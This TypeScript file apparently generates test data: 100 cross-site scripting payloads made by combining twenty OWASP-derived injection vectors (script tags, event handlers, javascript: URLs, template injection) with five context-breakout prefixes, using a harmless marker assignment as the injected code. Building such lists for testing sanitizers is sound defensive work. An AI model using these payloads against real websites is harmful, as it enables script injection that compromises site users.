const CODE = 'window.__pwned=1';

/** XSS vectors from OWASP's filter evasion cheat sheet; @ stands for code. */
const VECTORS: readonly string[] = [
  '<script>@</script>',
  '</script><script>@</script>',
  '<img src=x onerror=@>',
  '<svg/onload=@>',
  '<svg><script>@</script>',
  '<body onload=@>',
  '<iframe srcdoc="<script>@</script>">',
  '<details open ontoggle=@>',
  '<video src onerror=@>',
  '<input autofocus onfocus=@>',
  '<a href="javascript:@">x</a>',
  'javascript:@',
  '<math href="javascript:@">x</math>',
  '<form action="javascript:@"><button>x',
  '<object data="javascript:@">',
  '<style onload=@>',
  '<marquee onstart=@>',
  '{{constructor.constructor("@")()}}',
  '${@}',
  '<template><script>@</script>',
];
/** Places where text may end up: in markup, an attribute, a script, a comment, or the page's JSON. */
const CONTEXTS: readonly string[] = ['#', '">#', "'>#", '--># ', '"}</script>#'];

/** 100 XSS payloads of at most 80 characters. */
export const PAYLOADS: readonly string[] = CONTEXTS.flatMap((context) =>
  VECTORS.map((vector) => context.replace('#', vector.replace('@', CODE)).trim()),
);
